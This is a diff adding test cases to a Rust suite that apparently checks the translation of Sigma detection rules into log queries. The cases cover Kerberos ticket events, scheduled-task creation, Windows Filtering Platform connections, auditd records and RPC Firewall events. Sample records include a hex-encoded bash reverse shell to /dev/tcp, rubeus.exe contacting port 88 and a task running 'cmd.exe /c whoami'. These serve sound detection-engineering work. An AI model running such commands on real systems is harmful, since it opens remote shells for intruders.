@@ -228,6 +228,103 @@ fn cases() -> Vec<Case> {
                 "ProcessCommandLine": "osascript script.scpt", "DeviceName": "mac-01"})],
         },
         Case {
+            name: "security-eventdata-kerberos",
+            rule: "title: t\nlogsource: {product: windows, service: security}\ndetection:\n  sel:\n    EventID: 4768\n    TicketEncryptionType: '0x17'\n    PreAuthType: 0\n  condition: sel\n",
+            table: "SecurityEvent",
+            // Event 4768 as SecurityEvent keeps it: the values that have no column
+            // only in EventData, the event's <EventData> XML (Microsoft's
+            // ScheduleTaskHide.yaml reads it with parse_xml(EventData).EventData.Data).
+            hits: vec![json!({"EventID": 4768, "Channel": "Security", "Computer": "dc1.corp.example", "TargetUserName": "svc_sql", "ServiceName": "krbtgt",
+                "EventData": "<EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\">\r\n  <Data Name=\"TargetUserName\">svc_sql</Data>\r\n  <Data Name=\"TargetDomainName\">CORP</Data>\r\n  <Data Name=\"ServiceName\">krbtgt</Data>\r\n  <Data Name=\"TicketOptions\">0x40810010</Data>\r\n  <Data Name=\"Status\">0x0</Data>\r\n  <Data Name=\"TicketEncryptionType\">0x17</Data>\r\n  <Data Name=\"PreAuthType\">0</Data>\r\n  <Data Name=\"IpAddress\">::ffff:10.0.0.7</Data>\r\n  <Data Name=\"CertThumbprint\"></Data>\r\n</EventData>"})],
+            misses: vec![
+                json!({"EventID": 4768, "Channel": "Security", "TargetUserName": "alice",
+                    "EventData": "<EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><Data Name=\"TargetUserName\">alice</Data><Data Name=\"TicketEncryptionType\">0x12</Data><Data Name=\"PreAuthType\">2</Data></EventData>"}),
+                // 0x17 in another value of the event is not the encryption type.
+                json!({"EventID": 4768, "Channel": "Security", "TargetUserName": "bob",
+                    "EventData": "<EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><Data Name=\"TicketOptions\">0x17</Data><Data Name=\"TicketEncryptionType\">0x12</Data><Data Name=\"PreAuthType\">0</Data></EventData>"}),
+            ],
+        },
+        Case {
+            name: "security-eventdata-task",
+            rule: "title: t\nlogsource: {product: windows, service: security}\ndetection:\n  sel:\n    EventID: 4698\n    TaskContent|contains: 'cmd.exe</Command>'\n  filter:\n    TaskName|startswith: '\\Microsoft\\'\n  condition: sel and not filter\n",
+            table: "SecurityEvent",
+            // TaskContent is the task's XML, itself escaped inside the event's XML text.
+            hits: vec![json!({"EventID": 4698, "Channel": "Security",
+                "EventData": "<EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><Data Name=\"SubjectUserName\">alice</Data><Data Name=\"TaskName\">\\Updater</Data><Data Name=\"TaskContent\">&lt;?xml version=\"1.0\" encoding=\"UTF-16\"?&gt;&lt;Task&gt;&lt;Actions&gt;&lt;Exec&gt;&lt;Command&gt;C:\\Windows\\System32\\cmd.exe&lt;/Command&gt;&lt;Arguments&gt;/c whoami&lt;/Arguments&gt;&lt;/Exec&gt;&lt;/Actions&gt;&lt;/Task&gt;</Data></EventData>"})],
+            misses: vec![
+                json!({"EventID": 4698, "Channel": "Security",
+                    "EventData": "<EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><Data Name=\"TaskName\">\\Microsoft\\Windows\\Defrag</Data><Data Name=\"TaskContent\">&lt;Task&gt;&lt;Command&gt;cmd.exe&lt;/Command&gt;&lt;/Task&gt;</Data></EventData>"}),
+                json!({"EventID": 4698, "Channel": "Security",
+                    "EventData": "<EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><Data Name=\"TaskName\">\\Updater</Data><Data Name=\"TaskContent\">&lt;Task&gt;&lt;Command&gt;notepad.exe&lt;/Command&gt;&lt;/Task&gt;</Data></EventData>"}),
+            ],
+        },
+        Case {
+            name: "security-eventdata-wfp",
+            rule: "title: t\nlogsource: {product: windows, service: security}\ndetection:\n  sel:\n    EventID: 5156\n    DestPort: 88\n  filter:\n    Application|endswith: '\\lsass.exe'\n  condition: sel and not filter\n",
+            table: "SecurityEvent",
+            // The Filtering Platform's values: a device path, ports as text.
+            hits: vec![json!({"EventID": 5156, "Channel": "Security",
+                "EventData": "<EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><Data Name=\"ProcessID\">4556</Data><Data Name=\"Application\">\\device\\harddiskvolume2\\users\\a\\rubeus.exe</Data><Data Name=\"Direction\">%%14593</Data><Data Name=\"SourceAddress\">10.0.0.10</Data><Data Name=\"SourcePort\">51000</Data><Data Name=\"DestAddress\">10.0.0.1</Data><Data Name=\"DestPort\">88</Data><Data Name=\"Protocol\">6</Data><Data Name=\"LayerRTID\">48</Data></EventData>"})],
+            misses: vec![
+                json!({"EventID": 5156, "Channel": "Security",
+                    "EventData": "<EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><Data Name=\"Application\">\\device\\harddiskvolume2\\windows\\system32\\lsass.exe</Data><Data Name=\"DestPort\">88</Data></EventData>"}),
+                json!({"EventID": 5156, "Channel": "Security",
+                    "EventData": "<EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><Data Name=\"Application\">\\device\\harddiskvolume2\\users\\a\\rubeus.exe</Data><Data Name=\"SourcePort\">88</Data><Data Name=\"DestPort\">443</Data></EventData>"}),
+            ],
+        },
+        Case {
+            name: "auditd-execve",
+            rule: "title: t\nlogsource: {product: linux, service: auditd}\ndetection:\n  sel:\n    type: EXECVE\n    a0|endswith: bash\n    a1: '-c'\n    a2|contains: '/dev/tcp/'\n  condition: sel\n",
+            table: "Syslog",
+            // auditd's EXECVE record as the audisp syslog plugin passes it to syslog:
+            // an argument holding a space is upper-case hex, the others quoted.
+            hits: vec![
+                json!({"ProcessName": "audisp-syslog", "Facility": "user", "SeverityLevel": "info", "Computer": "web1",
+                    "SyslogMessage": "type=EXECVE msg=audit(1700000000.123:4242): argc=3 a0=\"/bin/bash\" a1=\"-c\" a2=62617368202D69203E26202F6465762F7463702F31302E302E302E312F3434343420303E2631"}),
+                json!({"ProcessName": "audisp-syslog", "Facility": "user", "Computer": "web1",
+                    "SyslogMessage": "node=web1 type=EXECVE msg=audit(1700000001.5:4250): argc=3 a0=\"bash\" a1=\"-C\" a2=\"/dev/tcp/10.0.0.1/80\""}),
+            ],
+            misses: vec![
+                json!({"ProcessName": "audisp-syslog", "SyslogMessage": "type=EXECVE msg=audit(1700000000.2:4243): argc=3 a0=\"bash\" a1=\"-c\" a2=6563686F202F6465762F746D702078"}),
+                json!({"ProcessName": "audisp-syslog", "SyslogMessage": "type=EXECVE msg=audit(1700000000.3:4244): argc=3 a0=\"bashful\" a1=\"-c\" a2=\"/dev/tcp/x\""}),
+                json!({"ProcessName": "audisp-syslog", "SyslogMessage": "type=PROCTITLE msg=audit(1700000000.4:4245): a0=\"bash\" a1=\"-c\" a2=\"/dev/tcp/x\""}),
+                json!({"ProcessName": "bash", "SyslogMessage": "type=EXECVE a0=\"bash\" a1=\"-c\" a2=\"/dev/tcp/x\""}),
+            ],
+        },
+        Case {
+            name: "auditd-syscall-enriched",
+            rule: "title: t\nlogsource: {product: linux, service: auditd}\ndetection:\n  sel:\n    type: SYSCALL\n    SYSCALL: execve\n    exe|endswith: /curl\n  condition: sel\n",
+            table: "Syslog",
+            // log_format ENRICHED: the interpreted fields follow a 0x1D byte, in upper case.
+            hits: vec![json!({"ProcessName": "audisp-syslog", "Facility": "user",
+                "SyslogMessage": "type=SYSCALL msg=audit(1700000000.9:51): arch=c000003e syscall=59 success=yes exit=0 a0=55d1 a1=55d2 a2=55d3 a3=0 items=2 ppid=900 pid=901 auid=1000 uid=0 gid=0 euid=0 tty=pts0 ses=3 comm=\"curl\" exe=\"/usr/bin/curl\" key=(null)\u{1d}ARCH=x86_64 SYSCALL=execve AUID=\"alice\" UID=\"root\""})],
+            misses: vec![json!({"ProcessName": "audisp-syslog",
+                "SyslogMessage": "type=SYSCALL msg=audit(1700000000.9:52): arch=c000003e syscall=2 success=yes exit=3 comm=\"curl\" exe=\"/usr/bin/curl\" key=(null)\u{1d}ARCH=x86_64 SYSCALL=open AUID=\"alice\""})],
+        },
+        Case {
+            name: "auditd-user-record",
+            rule: "title: t\nlogsource: {product: linux, service: auditd}\ndetection:\n  sel:\n    type: SERVICE_STOP\n    unit: auditd\n  condition: sel\n",
+            table: "Syslog",
+            // A user-space record: its fields inside msg='...'.
+            hits: vec![json!({"ProcessName": "audisp-syslog",
+                "SyslogMessage": "type=SERVICE_STOP msg=audit(1700000002.0:77): pid=1 uid=0 auid=4294967295 ses=4294967295 msg='unit=auditd comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'"})],
+            misses: vec![json!({"ProcessName": "audisp-syslog",
+                "SyslogMessage": "type=SERVICE_STOP msg=audit(1700000002.0:78): pid=1 uid=0 msg='unit=auditd-helper comm=\"systemd\" res=success'"})],
+        },
+        Case {
+            name: "rpc-firewall",
+            rule: "title: t\nlogsource: {product: rpc_firewall, category: application}\ndetection:\n  sel:\n    EventLog: RPCFW\n    EventID: 3\n    InterfaceUuid: 1FF70682-0A51-30E8-076D-740BE8CEE98B\n    OpNum: [0, 1]\n  condition: sel\n",
+            table: "Event",
+            // RPC Firewall's event 3 as the Event table keeps a classic event: its
+            // unnamed insertion strings in order, InterfaceUuid the 7th, OpNum the 8th.
+            hits: vec![json!({"EventLog": "RPCFW", "Source": "RPCFW", "EventID": 3, "Computer": "dc1", "EventData": "<DataItem type=\"System.XmlData\" time=\"2024-05-01T10:00:00.0000000Z\" sourceHealthServiceId=\"3f0e4b8c-0000-0000-0000-000000000000\"><EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><Data>NdrServerCallAll</Data><Data>1234</Data><Data>C:\\Windows\\System32\\svchost.exe</Data><Data>ncacn_np</Data><Data>\\PIPE\\atsvc</Data><Data>10.0.0.9</Data><Data>1ff70682-0a51-30e8-076d-740be8cee98b</Data><Data>1</Data><Data>S-1-5-21-1-2-3-1104</Data><Data>6</Data><Data>10</Data></EventData></DataItem>"})],
+            misses: vec![
+                json!({"EventLog": "RPCFW", "Source": "RPCFW", "EventID": 3, "EventData": "<DataItem type=\"System.XmlData\" time=\"2024-05-01T10:00:00.0000000Z\" sourceHealthServiceId=\"3f0e4b8c-0000-0000-0000-000000000000\"><EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><Data>NdrServerCallAll</Data><Data>1234</Data><Data>C:\\Windows\\System32\\svchost.exe</Data><Data>ncacn_np</Data><Data>\\PIPE\\atsvc</Data><Data>10.0.0.9</Data><Data>1ff70682-0a51-30e8-076d-740be8cee98b</Data><Data>2</Data><Data>S-1-5-21-1-2-3-1104</Data><Data>6</Data><Data>10</Data></EventData></DataItem>"}),
+                json!({"EventLog": "RPCFW", "Source": "RPCFW", "EventID": 3, "EventData": "<DataItem type=\"System.XmlData\" time=\"2024-05-01T10:00:00.0000000Z\" sourceHealthServiceId=\"3f0e4b8c-0000-0000-0000-000000000000\"><EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><Data>NdrServerCallAll</Data><Data>1</Data><Data>C:\\x.exe</Data><Data>ncacn_ip_tcp</Data><Data>49667</Data><Data>10.0.0.9</Data><Data>12345778-1234-abcd-ef00-0123456789ab</Data><Data>9</Data><Data></Data><Data>6</Data><Data>10</Data></EventData></DataItem>"}),
+                json!({"EventLog": "Application", "Source": "RPCFW", "EventID": 3, "EventData": "<DataItem type=\"System.XmlData\" time=\"2024-05-01T10:00:00.0000000Z\" sourceHealthServiceId=\"3f0e4b8c-0000-0000-0000-000000000000\"><EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><Data>NdrServerCallAll</Data><Data>1234</Data><Data>C:\\Windows\\System32\\svchost.exe</Data><Data>ncacn_np</Data><Data>\\PIPE\\atsvc</Data><Data>10.0.0.9</Data><Data>1ff70682-0a51-30e8-076d-740be8cee98b</Data><Data>1</Data><Data>S-1-5-21-1-2-3-1104</Data><Data>6</Data><Data>10</Data></EventData></DataItem>"}),
+            ],
+        },
+        Case {
             name: "syslog",
             rule: "title: t\nlogsource: {product: linux, service: sshd}\ndetection:\n  keywords:\n    - 'error in libcrypto'\n  condition: keywords\n",
             table: "Syslog",
